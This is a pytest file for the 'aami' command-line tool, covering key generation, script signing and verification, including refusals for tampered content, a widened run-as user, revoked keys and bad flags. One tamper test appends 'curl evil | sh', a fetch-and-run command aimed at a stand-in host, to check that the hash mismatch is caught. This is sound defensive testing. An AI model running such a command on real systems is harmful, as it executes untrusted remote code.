"""`aami keys generate`, `script sign` and `script verify` as an operator runs them."""

from __future__ import annotations

import base64
import json
import shutil
import stat
from pathlib import Path

import pytest

from aami import trust
from tests.cli.conftest import SCRIPT, Workspace, aami


def test_keys_generate_writes_a_0600_key_and_a_public_key(tmp_path: Path) -> None:
    result = aami("keys", "generate", "--out", str(tmp_path / "k"), "--name", "release")
    assert result.code == 0
    key, pub = tmp_path / "k" / "release.key", tmp_path / "k" / "release.pub"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert stat.S_IMODE(pub.stat().st_mode) == 0o644
    assert trust.public_key_pem(key.read_bytes()) == pub.read_bytes()
    assert trust.key_id(pub.read_bytes()) in result.out
    assert sorted(p.name for p in (tmp_path / "k").iterdir()) == ["release.key", "release.pub"]


def test_keys_generate_refuses_to_overwrite_without_force(ws: Workspace) -> None:
    before = ws.key.read_bytes()
    result = aami("keys", "generate", "--out", str(ws.keys_dir), "--name", "ops")
    assert result.code == 2
    assert "ops.key exists; pass --force" in result.err
    assert ws.key.read_bytes() == before
    forced = aami("keys", "generate", "--out", str(ws.keys_dir), "--name", "ops", "--force")
    assert forced.code == 0
    assert ws.key.read_bytes() != before
    assert stat.S_IMODE(ws.key.stat().st_mode) == 0o600


def test_sign_writes_a_document_that_verifies(ws: Workspace) -> None:
    document = json.loads(ws.signed.read_text())
    signed = trust.SignedScript.from_json(document)
    assert signed.content == SCRIPT
    statement = trust.ScriptStatement.from_payload(signed.envelope.payload)
    assert (statement.name, statement.version, statement.timeout_seconds) == (
        "disk-usage",
        "1.2.0",
        30,
    )
    assert statement.run_as == ("aami-runner",)
    assert statement.expires_at is not None and statement.expires_at.year == 2099
    result = aami("script", "verify", str(ws.signed), "--trusted-keys", str(ws.keys_dir))
    assert result.code == 0, result.err
    assert result.out.startswith("ok: disk-usage 1.2.0")


def test_sign_out_flag(ws: Workspace) -> None:
    out = ws.root / "elsewhere.json"
    args = [
        "script",
        "sign",
        str(ws.script),
        "--key",
        str(ws.key),
        "--name",
        "x",
        "--version",
        "0.0.1",
    ]
    assert aami(*args, "--out", str(out)).code == 0
    assert trust.SignedScript.from_json(json.loads(out.read_text())).content == SCRIPT


def _rewrite(path: Path, change) -> Path:  # type: ignore[no-untyped-def]
    document = json.loads(path.read_text())
    change(document)
    tampered = path.with_name("tampered.json")
    tampered.write_text(json.dumps(document))
    return tampered


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def test_tampered_content_is_refused(ws: Workspace) -> None:
    tampered = _rewrite(ws.signed, lambda d: d.update(content=_b64(SCRIPT + b"curl evil | sh\n")))
    result = aami("script", "verify", str(tampered), "--trusted-keys", str(ws.keys_dir))
    assert result.code == 1
    assert result.err.startswith("error: refused:") and "(hash_mismatch)" in result.err


def test_tampered_statement_is_refused(ws: Workspace) -> None:
    def widen_run_as(document: dict) -> None:
        payload = json.loads(base64.b64decode(document["envelope"]["payload"]))
        payload["run_as"] = ["root"]
        document["envelope"]["payload"] = _b64(json.dumps(payload).encode())

    tampered = _rewrite(ws.signed, widen_run_as)
    result = aami("script", "verify", str(tampered), "--trusted-keys", str(ws.keys_dir))
    assert result.code == 1 and "(bad_signature)" in result.err


def test_unknown_and_revoked_keys(ws: Workspace, tmp_path: Path) -> None:
    other = tmp_path / "other"
    assert aami("keys", "generate", "--out", str(other), "--name", "someone").code == 0
    (other / "someone.key").unlink()
    result = aami("script", "verify", str(ws.signed), "--trusted-keys", str(other))
    assert result.code == 1 and "(unknown_key)" in result.err
    (other / "revoked").mkdir()
    shutil.copy(ws.pub, other / "revoked" / "ops.pub")
    result = aami("script", "verify", str(ws.signed), "--trusted-keys", str(other))
    assert result.code == 1 and "(revoked_key)" in result.err


def test_verify_checks_params_and_run_as(ws: Workspace) -> None:
    base = ["script", "verify", str(ws.signed), "--trusted-keys", str(ws.keys_dir)]
    assert aami(*base, "--params", '{"mounts": ["/"]}').code == 0  # default fills the rest
    result = aami(*base, "--params", '{"threshold_percent": 150}')
    assert result.code == 1
    assert (
        "params.threshold_percent: 150 is greater than the maximum 100 (params_invalid)"
        in result.err
    )
    result = aami(*base, "--run-as", "root")
    assert result.code == 1 and "(run_as_not_allowed)" in result.err
    result = aami(*base, "--params", "{nope")
    assert result.code == 2 and "--params" in result.err


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        (["--version", "1.2"], "--version: '1.2' is not X.Y.Z"),
        (["--version", "1.0.0", "--timeout", "soon"], "--timeout"),
        (["--version", "1.0.0", "--timeout", "0.5s"], "--timeout"),
        (["--version", "1.0.0", "--interpreter", "ruby"], "--interpreter"),
        (
            ["--version", "1.0.0", "--expires", "2001-01-01"],
            "--expires: '2001-01-01' is in the past",
        ),
        (["--version", "1.0.0", "--expires", "someday"], "--expires"),
        (["--version", "1.0.0", "--run-as", "Bad User"], "--run-as"),
        (
            ["--version", "1.0.0", "--params-schema", "/nonexistent.yaml"],
            "/nonexistent.yaml: no such file",
        ),
        (["--version", "1.0.0", "--bogus"], "unrecognized arguments: --bogus"),
        ([], "--version"),
    ],
)
def test_bad_sign_flags_exit_2_naming_the_flag(ws: Workspace, extra: list[str], words: str) -> None:
    args = ["script", "sign", str(ws.script), "--key", str(ws.key), "--name", "n", *extra]
    result = aami(*args)
    assert result.code == 2
    assert words in result.err


def test_bad_schema_file_names_file_and_field(ws: Workspace) -> None:
    schema = ws.root / "bad.json"
    schema.write_text(
        '{"type": "object", "properties": {"x": {"type": "string", "format": "uri"}}}'
    )
    args = [
        "script",
        "sign",
        str(ws.script),
        "--key",
        str(ws.key),
        "--name",
        "n",
        "--version",
        "1.0.0",
    ]
    result = aami(*args, "--params-schema", str(schema))
    assert result.code == 2
    assert f"--params-schema {schema}: params_schema.properties.x.format" in result.err
    schema.write_text("{not: [valid")
    result = aami(*args, "--params-schema", str(schema.with_suffix(".yaml")))
    assert result.code == 2


def test_public_key_as_signing_key_is_a_usage_error(ws: Workspace) -> None:
    args = [
        "script",
        "sign",
        str(ws.script),
        "--key",
        str(ws.pub),
        "--name",
        "n",
        "--version",
        "1.0.0",
    ]
    result = aami(*args)
    assert result.code == 2 and f"--key {ws.pub}" in result.err


def test_empty_script_is_refused(ws: Workspace) -> None:
    empty = ws.root / "empty.sh"
    empty.write_bytes(b"")
    result = aami(
        "script", "sign", str(empty), "--key", str(ws.key), "--name", "n", "--version", "1.0.0"
    )
    assert result.code == 2 and "is empty" in result.err


@pytest.mark.parametrize(
    ("content", "words"),
    [("not json", "not valid JSON"), ('{"format": "x"}', "format"), ("[]", "JSON object")],
)
def test_malformed_signed_file_is_a_usage_error(ws: Workspace, content: str, words: str) -> None:
    bad = ws.root / "bad.signed.json"
    bad.write_text(content)
    result = aami("script", "verify", str(bad), "--trusted-keys", str(ws.keys_dir))
    assert result.code == 2 and words in result.err


def test_trusted_keys_dir_problems(ws: Workspace) -> None:
    result = aami("script", "verify", str(ws.signed), "--trusted-keys", str(ws.root / "none"))
    assert result.code == 2 and "--trusted-keys" in result.err
    empty = ws.root / "empty"
    empty.mkdir()
    result = aami("script", "verify", str(ws.signed), "--trusted-keys", str(empty))
    assert result.code == 2 and "no trusted *.pub key" in result.err
    (empty / "broken.pub").write_text("garbage")
    result = aami("script", "verify", str(ws.signed), "--trusted-keys", str(empty))
    assert result.code == 2 and "broken.pub" in result.err


def test_missing_subcommand_and_unknown_command() -> None:
    assert aami().code == 2
    assert aami("frobnicate").code == 2
    assert aami("script").code == 2


def test_help_works() -> None:
    result = aami("script", "sign", "--help")
    assert result.code == 0 and "--params-schema" in result.out


def test_bundle_commands_are_wired_into_aami(ws: Workspace) -> None:
    # The bundle package owns `aami bundle build|verify`; the CLI only mounts them.
    result = aami("bundle", "verify", str(ws.root / "missing.tar.gz"), "--key", str(ws.pub))
    assert result.code == 2 and "missing.tar.gz: no such file" in result.err
    assert aami("bundle", "build", "--help").code == 0
    assert aami("bundle").code == 2
